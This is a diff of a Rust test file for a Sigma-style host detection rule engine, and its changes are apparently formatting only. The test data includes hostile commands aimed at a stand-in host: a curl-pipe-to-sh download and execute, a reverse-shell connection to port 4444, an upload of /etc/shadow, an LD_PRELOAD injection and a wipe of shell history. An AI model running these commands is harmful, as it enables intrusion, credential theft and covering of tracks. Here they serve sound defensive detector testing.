@@ -204,7 +204,8 @@ fn each_starter_rule_fires_on_what_it_describes_and_not_on_the_ordinary() {
     let set = starter_rules();
     let sshd = in_login("sshd", "alice");
     let sudo = in_login("sudo", "root");
-    let exec_in = |login: &Login, file: &str, argv: &[&str]| SigmaEvent::of(&exec(file, argv), Some(login)).unwrap();
+    let exec_in =
+        |login: &Login, file: &str, argv: &[&str]| SigmaEvent::of(&exec(file, argv), Some(login)).unwrap();
     let connect_in = |login: &Login, comm: &str, family: &str, address: &str, port: u32| {
         let stored = stored(Body::Connect(Connect {
             session: Some(0x11),
@@ -220,15 +221,25 @@ fn each_starter_rule_fires_on_what_it_describes_and_not_on_the_ordinary() {
         SigmaEvent::of(&stored, Some(login)).unwrap()
     };
     let cases: Vec<(SigmaEvent, Vec<&str>)> = vec![
-        (exec_in(&sudo, "/usr/bin/bash", &["bash"]), vec!["shell-by-sudo-or-su.yml"]),
+        (
+            exec_in(&sudo, "/usr/bin/bash", &["bash"]),
+            vec!["shell-by-sudo-or-su.yml"],
+        ),
         (exec_in(&sshd, "/usr/bin/bash", &["bash"]), vec![]),
-        (exec_in(&sudo, "/usr/bin/systemctl", &["systemctl", "restart", "nginx"]), vec![]),
+        (
+            exec_in(&sudo, "/usr/bin/systemctl", &["systemctl", "restart", "nginx"]),
+            vec![],
+        ),
         (
             exec_in(&sshd, "/usr/bin/env", &["env", "LD_PRELOAD=/tmp/x.so", "id"]),
             vec!["ld-preload-on-exec.yml"],
         ),
         (
-            exec_in(&sshd, "/usr/bin/truncate", &["truncate", "-s0", "/home/alice/.bash_history"]),
+            exec_in(
+                &sshd,
+                "/usr/bin/truncate",
+                &["truncate", "-s0", "/home/alice/.bash_history"],
+            ),
             vec!["history-or-logs-truncated.yml"],
         ),
         (
@@ -237,10 +248,21 @@ fn each_starter_rule_fires_on_what_it_describes_and_not_on_the_ordinary() {
         ),
         (exec_in(&sshd, "/usr/bin/rm", &["rm", "notes.txt"]), vec![]),
         (
-            exec_in(&sshd, "/usr/bin/sh", &["sh", "-c", "curl -fsSL http://203.0.113.9/i | sh"]),
+            exec_in(
+                &sshd,
+                "/usr/bin/sh",
+                &["sh", "-c", "curl -fsSL http://203.0.113.9/i | sh"],
+            ),
             vec!["download-and-execute.yml"],
         ),
-        (exec_in(&sshd, "/usr/bin/curl", &["curl", "-o", "x", "http://203.0.113.9/"]), vec![]),
+        (
+            exec_in(
+                &sshd,
+                "/usr/bin/curl",
+                &["curl", "-o", "x", "http://203.0.113.9/"],
+            ),
+            vec![],
+        ),
         (
             connect_in(&sshd, "bash", "inet", "203.0.113.9", 4444),
             vec!["reverse-shell.yml", "ssh-login-outbound-uncommon-port.yml"],
@@ -260,7 +282,7 @@ fn each_starter_rule_fires_on_what_it_describes_and_not_on_the_ordinary() {
     }
 }
 
-/// A rule as SigmaHQ writes them (related, references, modified, fields,
+/// A rule as `SigmaHQ` writes them (related, references, modified, fields,
 /// falsepositives, tags, modifiers and a compound condition) loads unchanged.
 #[test]
 fn rules_in_the_upstream_sigmahq_style_load_unchanged() {
@@ -309,7 +331,10 @@ level: medium
     let rule = LoadedRule::parse("curl-upload.yml", yaml).unwrap();
     assert_eq!(rule.severity, Severity::Warning);
     let upload = SigmaEvent::of(
-        &exec("/usr/bin/curl", &["curl", "-F", "f=@/etc/shadow", "http://203.0.113.9/"]),
+        &exec(
+            "/usr/bin/curl",
+            &["curl", "-F", "f=@/etc/shadow", "http://203.0.113.9/"],
+        ),
         None,
     )
     .unwrap();
